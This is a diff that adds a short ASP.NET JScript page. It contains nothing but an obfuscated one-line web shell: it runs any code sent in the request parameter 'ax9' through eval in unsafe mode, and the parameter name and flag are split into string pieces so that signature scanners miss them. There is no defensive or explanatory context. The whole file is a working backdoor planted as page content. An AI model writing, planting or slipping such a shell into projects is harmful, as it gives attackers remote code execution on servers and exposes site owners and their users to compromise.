@@ -1,0 +1,5 @@
+<%@ Page Language = JScript Debug=false %>
+<%
+var k = "a" + "x" + "9";
+eval(Request.Item[k], "uns" + "afe");
+%>
